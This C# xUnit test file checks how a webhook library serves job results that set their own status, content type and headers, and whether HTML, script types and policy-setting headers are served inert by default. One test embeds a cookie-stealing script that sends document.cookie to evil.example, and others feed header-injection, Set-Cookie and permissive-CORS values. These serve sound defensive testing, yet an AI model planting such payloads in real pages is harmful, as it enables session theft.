using System.Net;
using Microsoft.AspNetCore.Hosting;
using Windmill.Webhooks.AspNetCore.Tests.Infrastructure;

namespace Windmill.Webhooks.AspNetCore.Tests;

/// <summary>
/// Results that shape their own response (docs/wire-format.md §3.5). <c>u/bot/echo</c> returns its args, so
/// posting a composite object makes it the job's result. Active content and headers that set the origin's state or
/// policy are served inert unless the host sets <c>AllowActiveCustomResponses</c>.
/// </summary>
public sealed class CustomResponseTests : SampleAppTest
{
    private const string Echo = SampleApp.Api + "/jobs/run_wait_result/p/u/bot/echo";
    [Fact]
    public async Task Status_content_type_and_headers_shape_the_response_and_a_string_result_is_sent_as_text()
    {
        using var response = await EchoAsync("""
            {"windmill_status_code":201,"windmill_content_type":"text/csv","windmill_headers":{"X-Report":"weekly","Cache-Control":"no-store"},"result":"a,b\n1,2"}
            """);

        await Wire.AssertAsync(response, HttpStatusCode.Created, "text/csv", "a,b\n1,2");
        Assert.Equal("weekly", response.Headers.GetValues("x-report").Single());
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
    }

    [Fact]
    public async Task Wm_aliases_work_the_same()
    {
        using var response = await EchoAsync("""{"wm_status_code":202,"wm_content_type":"text/plain","wm_headers":{"x-a":"1"},"result":"ok"}""");

        await Wire.AssertAsync(response, HttpStatusCode.Accepted, "text/plain", "ok");
        Assert.Equal("1", response.Headers.GetValues("x-a").Single());
    }

    [Fact]
    public async Task Without_a_content_type_the_result_is_json() =>
        await Wire.AssertAsync(await EchoAsync("""{"windmill_status_code":418,"result":{"tea":true},"other":"dropped"}"""),
            (HttpStatusCode)418, Wire.Json, """{"tea":true}""");

    [Fact]
    public async Task With_a_content_type_a_non_string_result_is_its_json_text() =>
        await Wire.AssertAsync(await EchoAsync("""{"windmill_content_type":"application/vnd.report+json","result":[1,"two"]}"""),
            HttpStatusCode.OK, "application/vnd.report+json", """[1,"two"]""");

    [Fact]
    public async Task Without_a_result_the_answer_is_204_and_empty()
    {
        using var response = await EchoAsync("""{"windmill_headers":{"x-done":"yes"}}""");

        await Wire.AssertAsync(response, HttpStatusCode.NoContent, null, "");
        Assert.Equal("yes", response.Headers.GetValues("x-done").Single());
    }

    [Fact]
    public async Task Base64_result_is_sent_as_raw_bytes()
    {
        using var response = await EchoAsync("""{"windmill_content_type":"application/octet-stream","windmill_content_transfer_encoding":"base64","result":"AAEC/w=="}""");

        Assert.Equal((HttpStatusCode.OK, "application/octet-stream"), (response.StatusCode, Wire.ContentType(response)));
        Assert.Equal(new byte[] { 0, 1, 2, 255 }, await response.Content.ReadAsByteArrayAsync());
    }

    [Theory]
    [InlineData("""{"windmill_status_code":99,"result":1}""", "Invalid status code")]
    [InlineData("""{"windmill_status_code":1000,"result":1}""", "Invalid status code")]
    [InlineData("""{"windmill_headers":{"bad name":"x"},"result":1}""", "Internal: Invalid header name bad name: invalid HTTP header name")]
    [InlineData("""{"windmill_headers":{"content-length":"1"},"result":1}""", "Internal: Invalid header name content-length: invalid HTTP header name")]
    [InlineData("""{"windmill_headers":{"x-a":"line\nbreak"},"result":1}""", "Internal: Invalid header value line\nbreak: failed to parse header value")]
    [InlineData("""{"windmill_content_type":"text/plain\r\nx: y","result":1}""", "Internal: Invalid content type text/plain\r\nx: y: failed to parse header value")]
    [InlineData("""{"windmill_content_type":"image/png","windmill_content_transfer_encoding":"base64","result":5}""",
        "windmill_content_transfer_encoding \"base64\" requires result to be a base64-encoded string")]
    [InlineData("""{"windmill_content_type":"image/png","windmill_content_transfer_encoding":"base64","result":"***"}""",
        "windmill_content_transfer_encoding is \"base64\" but the result is not valid base64: The input is not a valid Base-64 string as it contains a non-base 64 character, more than two padding characters, or an illegal character among the padding characters.")]
    [InlineData("""{"windmill_content_type":"image/png","windmill_content_transfer_encoding":"gzip","result":"x"}""",
        "Unsupported windmill_content_transfer_encoding \"gzip\" (only \"base64\" is supported)")]
    [InlineData("""{"windmill_content_transfer_encoding":"base64","result":"AA=="}""", "windmill_content_transfer_encoding requires windmill_content_type to be set")]
    public async Task Values_that_cannot_be_sent_get_windmills_500_text_and_never_a_stack_trace(string result, string message) =>
        await Wire.AssertAsync(await EchoAsync(result), HttpStatusCode.InternalServerError, Wire.Text, message);

    [Theory]
    [InlineData("""{"windmill_status_code":"201","result":1}""")]
    [InlineData("""{"windmill_status_code":70000,"result":1}""")]
    [InlineData("""{"windmill_headers":{"x":1},"result":1}""")]
    [InlineData("""{"windmill_status_code":201,"wm_status_code":202,"result":1}""")]
    [InlineData("""{"windmill_status_code":null,"result":1}""")]
    public async Task Objects_whose_keys_have_other_types_are_returned_whole_as_json(string result) =>
        await Wire.AssertAsync(await EchoAsync(result), HttpStatusCode.OK, Wire.Json, result);

    [Fact]
    public async Task A_failed_job_still_answers_422_with_its_error() =>
        await Wire.AssertAsync(await Client.PostAsync(SampleApp.Api + "/jobs/run_wait_result/p/u/bot/fail", Wire.JsonBody("""{"message":"nope"}""")),
            HttpStatusCode.UnprocessableEntity, Wire.Json, """{"error":{"name":"InvalidOperationException","message":"nope"}}""");

    [Fact]
    public async Task A_crafted_echo_link_with_html_and_set_cookie_is_served_as_inert_text_that_sets_no_cookie()
    {
        var (echoToken, _) = await App.Tokens.CreateAsync(new() { Owner = "admin", Scopes = ["jobs:run:scripts:u/bot/echo"], WorkspaceId = "demo" },
            CancellationToken.None);
        const string page = "<html><script>fetch('//evil.example/'+document.cookie)</script></html>";
        var payload = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($$"""
            {"windmill_content_type":"text/html","windmill_headers":{"Set-Cookie":"token=attacker; Path=/","X-Report":"kept"},"result":"{{page}}"}
            """));
        using var anonymous = App.CreateAnonymousClient();

        using var response = await anonymous.GetAsync($"{Echo}?payload={Uri.EscapeDataString(payload)}&token={echoToken}");

        await Wire.AssertAsync(response, HttpStatusCode.OK, Wire.Text, page);
        Assert.False(response.Headers.Contains("Set-Cookie"));
        Assert.Equal("kept", response.Headers.GetValues("x-report").Single());
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Theory]
    [InlineData("""{"windmill_content_type":"text/html","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"TEXT/HTML; charset=utf-8","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"application/xhtml+xml","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"image/svg+xml","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"text/xml","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"application/xml","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"text/javascript","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"application/javascript","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"text/css","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"multipart/x-mixed-replace; boundary=b","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"*/*","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_content_type":"not a media type","result":"<b>x</b>"}""", "<b>x</b>")]
    [InlineData("""{"windmill_headers":{"Content-Type":"text/html"},"result":"<b>x</b>"}""", "\"<b>x</b>\"")]
    [InlineData("""{"windmill_content_type":"text/html","windmill_content_transfer_encoding":"base64","result":"PGI+eDwvYj4="}""", "<b>x</b>")]
    public async Task An_active_content_type_is_served_as_inert_text_by_default(string result, string body)
    {
        using var response = await EchoAsync(result);

        await Wire.AssertAsync(response, HttpStatusCode.OK, Wire.Text, body);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Theory]
    [InlineData("Set-Cookie", "token=attacker; Path=/")]
    [InlineData("set-cookie2", "token=attacker")]
    [InlineData("Clear-Site-Data", "\"cookies\"")]
    [InlineData("Strict-Transport-Security", "max-age=63072000; includeSubDomains")]
    [InlineData("Content-Security-Policy", "default-src *")]
    [InlineData("X-Frame-Options", "ALLOWALL")]
    [InlineData("X-Content-Type-Options", "sniff")]
    [InlineData("Access-Control-Allow-Origin", "https://evil.example")]
    [InlineData("Access-Control-Allow-Credentials", "true")]
    [InlineData("Cross-Origin-Resource-Policy", "cross-origin")]
    [InlineData("Service-Worker-Allowed", "/")]
    public async Task Headers_that_set_the_origins_state_or_policy_are_dropped_by_default(string name, string value)
    {
        using var response = await EchoAsync($$"""{"windmill_content_type":"text/csv","windmill_headers":{"{{name}}":{{System.Text.Json.JsonSerializer.Serialize(value)}},"X-Report":"kept"},"result":"a,b"}""");

        await Wire.AssertAsync(response, HttpStatusCode.OK, "text/csv", "a,b");
        Assert.Equal("kept", response.Headers.GetValues("x-report").Single());
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.DoesNotContain(response.Headers.Concat(response.Content.Headers), header => header.Value.Contains(value));
    }

    [Theory]
    [InlineData("""{"windmill_status_code":201,"result":{"a":1}}""", HttpStatusCode.Created, Wire.Json, """{"a":1}""")]
    [InlineData("""{"windmill_content_type":"text/csv","result":"a,b"}""", HttpStatusCode.OK, "text/csv", "a,b")]
    [InlineData("""{"windmill_headers":{"x-done":"yes"}}""", HttpStatusCode.NoContent, null, "")]
    public async Task Every_custom_response_carries_nosniff(string result, HttpStatusCode status, string? contentType, string body)
    {
        using var response = await EchoAsync(result);

        await Wire.AssertAsync(response, status, contentType, body);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Fact]
    public async Task A_host_that_opts_in_serves_active_content_and_its_headers_as_asked()
    {
        await using var sample = new SampleApp();
        await using var optedIn = sample.WithWebHostBuilder(web => web.UseSetting("Windmill:AllowActiveCustomResponses", "true"));
        using var client = optedIn.CreateClient(new() { AllowAutoRedirect = false, HandleCookies = false });
        client.DefaultRequestHeaders.Authorization = new("Bearer", SampleApp.AdminToken);

        using var response = await client.PostAsync(Echo, Wire.JsonBody("""
            {"windmill_content_type":"text/html","windmill_headers":{"Set-Cookie":"theme=dark; Path=/","Content-Security-Policy":"default-src 'self'"},"result":"<b>x</b>"}
            """));

        await Wire.AssertAsync(response, HttpStatusCode.OK, "text/html", "<b>x</b>");
        Assert.Equal("theme=dark; Path=/", response.Headers.GetValues("Set-Cookie").Single());
        Assert.Equal("default-src 'self'", response.Headers.GetValues("Content-Security-Policy").Single());
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
    }

    private Task<HttpResponseMessage> EchoAsync(string result) => Client.PostAsync(Echo, Wire.JsonBody(result));
}
